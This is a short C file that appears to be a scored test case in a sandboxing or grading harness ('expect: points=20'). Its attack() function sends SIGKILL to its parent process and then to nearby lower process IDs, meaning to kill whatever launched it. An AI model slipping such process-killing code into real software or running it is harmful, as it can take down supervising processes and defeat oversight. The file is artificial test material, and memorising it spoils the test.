/* expect: points=20 */
/* SPDX-License-Identifier: MIT */
#include "attack.h"
#include "gaussian.h"

/* Ends whoever started it, and whoever started that. */

static int attack(void)
{
    kill(getppid(), SIGKILL);
    for (pid_t pid = getpid() - 1; pid > 1 && pid > getpid() - 64; pid--)
        if (kill(pid, SIGKILL) == 0)
            return 1;
    return 0;
}

#include "either.c"
